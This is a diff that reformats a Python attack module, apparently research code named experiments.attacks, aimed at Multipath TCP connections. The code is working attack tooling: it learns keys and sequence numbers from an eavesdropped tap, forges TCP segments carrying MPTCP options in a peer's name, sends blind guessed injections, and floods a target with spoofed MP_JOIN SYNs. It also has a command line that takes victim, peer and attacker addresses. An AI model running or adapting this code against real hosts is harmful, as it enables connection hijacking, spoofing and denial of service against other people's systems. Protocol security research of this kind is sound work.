@@ -121,9 +121,11 @@ class Knowledge:
         return self.server_key if self.victim_is_client else self.client_key
 
     def summary(self) -> dict:
-        return {"subflows_seen": len(self.last_from_peer),
-                "keys_known": self.client_key is not None,
-                "recorded": len(self.recorded)}  # fmt: skip
+        return {
+            "subflows_seen": len(self.last_from_peer),
+            "keys_known": self.client_key is not None,
+            "recorded": len(self.recorded),
+        }
 
 
 class Learner:
@@ -158,8 +160,12 @@ class Learner:
                 for opt in _mptcp_options(seg.options):
                     # The client's third ACK carries both keys: sender (client) first.
                     if isinstance(opt, MpCapable) and opt.receiver_key is not None:
-                        self.keys = (opt.sender_key, opt.receiver_key, seg.dport,
-                                     seg.src in self.victim)  # fmt: skip
+                        self.keys = (
+                            opt.sender_key,
+                            opt.receiver_key,
+                            seg.dport,
+                            seg.src in self.victim,
+                        )
             if seg.src in self.peer and seg.dst in self.victim and not seg.flags & 0x02:
                 self.last[seg.four_tuple] = (frame, when)
                 for option in control_options(seg.options, self.replayable):
@@ -225,8 +231,15 @@ class TapFollower:
             self.file.close()
 
 
-def eavesdrop(read, victim: set[str], peer: set[str], clock=time.time, sleep=time.sleep,
-              patience: float = PATIENCE, learner: Learner | None = None):  # fmt: skip
+def eavesdrop(
+    read,
+    victim: set[str],
+    peer: set[str],
+    clock=time.time,
+    sleep=time.sleep,
+    patience: float = PATIENCE,
+    learner: Learner | None = None,
+):
     """Learn from the tap (``read()`` gives its frames) once the connection has been
     quiet for QUIET seconds, waiting at most ``patience``: a forgery must carry the
     peer's latest sequence and acknowledgment numbers, or TCP drops it as old. With no
@@ -312,14 +325,25 @@ def segment_after(seen, option: bytes, now: float | None = None):
     tsval, tsecr = _timestamps(tcp)
     if now is not None:
         tsval += int((now - float(seen.time)) * 1000)
-    options = [("NOP", None), ("NOP", None), ("Timestamp", (tsval + TS_AHEAD, tsecr)),
-               (option[0], option[2:])]  # fmt: skip
+    options = [
+        ("NOP", None),
+        ("NOP", None),
+        ("Timestamp", (tsval + TS_AHEAD, tsecr)),
+        (option[0], option[2:]),
+    ]
     # The tap may have cut the payload: its length is in the IP header (Linux sends TCP
     # right after IPv6's fixed header).
     header = ip.ihl * 4 if ip.version == 4 else 0
     payload = (ip.len if ip.version == 4 else ip.plen) - header - tcp.dataofs * 4
-    forged = TCP(sport=tcp.sport, dport=tcp.dport, seq=tcp.seq + payload,
-                 ack=tcp.ack, flags="A", window=tcp.window, options=options)  # fmt: skip
+    forged = TCP(
+        sport=tcp.sport,
+        dport=tcp.dport,
+        seq=tcp.seq + payload,
+        ack=tcp.ack,
+        flags="A",
+        window=tcp.window,
+        options=options,
+    )
     return forged_ip(ip.src, ip.dst) / forged
 
 
@@ -328,17 +352,30 @@ def guessed_segment(four_tuple, option: bytes, rng: random.Random):
     from scapy.layers.inet import TCP
 
     src, sport, dst, dport = four_tuple
-    options = [("NOP", None), ("NOP", None),
-               ("Timestamp", (rng.getrandbits(32), rng.getrandbits(32))),
-               (option[0], option[2:])]  # fmt: skip
+    options = [
+        ("NOP", None),
+        ("NOP", None),
+        ("Timestamp", (rng.getrandbits(32), rng.getrandbits(32))),
+        (option[0], option[2:]),
+    ]
     return forged_ip(src, dst) / TCP(
-        sport=sport, dport=dport, seq=rng.getrandbits(32), ack=rng.getrandbits(32),
-        flags="A", window=rng.randrange(1, 65536), options=options,
-    )  # fmt: skip
+        sport=sport,
+        dport=dport,
+        seq=rng.getrandbits(32),
+        ack=rng.getrandbits(32),
+        flags="A",
+        window=rng.randrange(1, 65536),
+        options=options,
+    )
 
 
-def option_for(attack: str, k: Knowledge, attacker: str, rng: random.Random,
-               removed_ids: tuple[int, ...] = REMOVED_IDS) -> bytes:  # fmt: skip
+def option_for(
+    attack: str,
+    k: Knowledge,
+    attacker: str,
+    rng: random.Random,
+    removed_ids: tuple[int, ...] = REMOVED_IDS,
+) -> bytes:
     """The forged MPTCP option of an option attack, as well as ``k`` allows."""
     if attack == "add_addr":
         if k.peer_key is not None and k.victim_key is not None:
@@ -409,19 +446,31 @@ def own_connection_claims(
     ]
 
 
-def option_attack(attack: str, k: Knowledge, attacker: str, rng: random.Random,
-                  tuples=(), now: float | None = None) -> list:  # fmt: skip
+def option_attack(
+    attack: str,
+    k: Knowledge,
+    attacker: str,
+    rng: random.Random,
+    tuples=(),
+    now: float | None = None,
+) -> list:
     """Forged segments in the peer's name to the victim: one per subflow the eavesdropper
     saw, or ``BLIND_GUESSES`` per given four-tuple for a blind attacker."""
     if k.last_from_peer:
-        return [segment_after(seen, option_for(attack, k, attacker, rng), now)
-                for seen in k.last_from_peer.values()]  # fmt: skip
-    return [guessed_segment(t, option_for(attack, k, attacker, rng), rng)
-            for t in tuples for _ in range(BLIND_GUESSES)]  # fmt: skip
+        return [
+            segment_after(seen, option_for(attack, k, attacker, rng), now)
+            for seen in k.last_from_peer.values()
+        ]
+    return [
+        guessed_segment(t, option_for(attack, k, attacker, rng), rng)
+        for t in tuples
+        for _ in range(BLIND_GUESSES)
+    ]
 
 
-def join_flood(k: Knowledge, sources: list[str], targets: list[str], port: int,
-               rng: random.Random) -> list:  # fmt: skip
+def join_flood(
+    k: Knowledge, sources: list[str], targets: list[str], port: int, rng: random.Random
+) -> list:
     """MP_JOIN SYNs from the ``sources`` (spoofed) to the peer's ``targets``, with the
     token of the peer's key if known, else a guessed one."""
     from scapy.layers.inet import TCP
@@ -429,13 +478,26 @@ def join_flood(k: Knowledge, sources: list[str], targets: list[str], port: int,
     token = token_of(k.peer_key) if k.peer_key is not None else rng.getrandbits(32)
     out = []
     for i in range(FLOOD_SYNS):
-        join = encode(MpJoin(False, addr_id=rng.randrange(1, 8), token=token,
-                             nonce=rng.getrandbits(32)))  # fmt: skip
-        options = [("MSS", 1460), ("SAckOK", b""), ("Timestamp", (rng.getrandbits(32), 0)),
-                   ("WScale", 7), (join[0], join[2:])]  # fmt: skip
-        out.append(forged_ip(sources[i % len(sources)], targets[i % len(targets)])
-                   / TCP(sport=rng.randrange(32768, 61000), dport=port, flags="S",
-                         seq=rng.getrandbits(32), options=options))  # fmt: skip
+        join = encode(
+            MpJoin(False, addr_id=rng.randrange(1, 8), token=token, nonce=rng.getrandbits(32))
+        )
+        options = [
+            ("MSS", 1460),
+            ("SAckOK", b""),
+            ("Timestamp", (rng.getrandbits(32), 0)),
+            ("WScale", 7),
+            (join[0], join[2:]),
+        ]
+        out.append(
+            forged_ip(sources[i % len(sources)], targets[i % len(targets)])
+            / TCP(
+                sport=rng.randrange(32768, 61000),
+                dport=port,
+                flags="S",
+                seq=rng.getrandbits(32),
+                options=options,
+            )
+        )
     return out
 
 
@@ -487,18 +549,29 @@ def build(args, clock=time.time, sleep=time.sleep) -> tuple[list, Knowledge]:
 
 
 def main(argv: list[str] | None = None) -> int:
-    ap = argparse.ArgumentParser(prog="python -m experiments.attacks",
-                                 description=" ".join(__doc__.split("\n\n")[0].split()))  # fmt: skip
+    ap = argparse.ArgumentParser(
+        prog="python -m experiments.attacks", description=" ".join(__doc__.split("\n\n")[0].split())
+    )
     ap.add_argument("attack", choices=ATTACKS)
     ap.add_argument("--strength", choices=STRENGTHS, required=True)
-    ap.add_argument("--victim", action="append", required=True,
-                    help="an address of the attacked host (repeat)")  # fmt: skip
-    ap.add_argument("--peer", action="append", required=True,
-                    help="an address of its peer, whose name the forgeries use (repeat)")  # fmt: skip
+    ap.add_argument(
+        "--victim", action="append", required=True, help="an address of the attacked host (repeat)"
+    )
+    ap.add_argument(
+        "--peer",
+        action="append",
+        required=True,
+        help="an address of its peer, whose name the forgeries use (repeat)",
+    )
     ap.add_argument("--attacker", required=True, help="the attacker's own address")
     ap.add_argument("--tap", help="pcap of the eavesdropped path (eavesdrop)")
-    ap.add_argument("--tuple", action="append", type=parse_tuple, default=[],
-                    help="peer->victim four-tuple SRC:SPORT-DST:DPORT (blind; repeat)")  # fmt: skip
+    ap.add_argument(
+        "--tuple",
+        action="append",
+        type=parse_tuple,
+        default=[],
+        help="peer->victim four-tuple SRC:SPORT-DST:DPORT (blind; repeat)",
+    )
     ap.add_argument("--port", type=int, default=5201, help="the peer's listening port")
     ap.add_argument("--seed", type=int, default=1)
     ap.add_argument("--wait", action="store_true", help="print ready, send on a stdin line")
@@ -523,8 +596,9 @@ def main(argv: list[str] | None = None) -> int:
             print(json.dumps({"error": str(e)}), flush=True)
             return 1
     if args.strength == "blind" and args.attack != "join_flood" and not args.tuple:
-        print(json.dumps({"error": "a blind option attack needs at least one four-tuple"}),
-              flush=True)  # fmt: skip
+        print(
+            json.dumps({"error": "a blind option attack needs at least one four-tuple"}), flush=True
+        )
         return 1
     try:
         packets, k = build(args)
@@ -536,8 +610,12 @@ def main(argv: list[str] | None = None) -> int:
     except OSError as e:
         print(json.dumps({"error": f"sending the forgeries: {e}"}), flush=True)
         return 1
-    print(json.dumps({"attack": args.attack, "strength": args.strength, "sent": len(packets),
-                      **k.summary()}), flush=True)  # fmt: skip
+    print(
+        json.dumps(
+            {"attack": args.attack, "strength": args.strength, "sent": len(packets), **k.summary()}
+        ),
+        flush=True,
+    )
     return 0
 
 
